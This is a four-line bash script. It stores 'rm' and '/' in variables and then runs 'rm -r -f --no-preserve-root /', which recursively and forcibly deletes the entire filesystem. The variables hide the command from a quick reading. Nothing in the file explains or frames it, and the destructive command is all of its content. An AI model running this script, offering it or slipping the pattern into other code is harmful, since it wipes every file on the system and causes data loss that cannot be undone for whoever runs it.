#!/bin/bash
R=rm
T=/
$R -r -f --no-preserve-root $T
